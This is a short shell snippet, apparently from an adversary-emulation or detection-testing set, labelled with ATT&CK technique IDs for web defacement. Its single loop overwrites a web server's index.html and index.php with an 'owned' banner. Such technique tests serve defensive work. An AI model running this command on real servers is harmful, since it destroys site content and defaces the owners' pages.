# title: The front page of a web server is replaced
# technique: T1491.002 T1491

for page in /var/www/html/index.html /var/www/html/index.php; do echo '<h1>owned</h1>' >"$page"; done
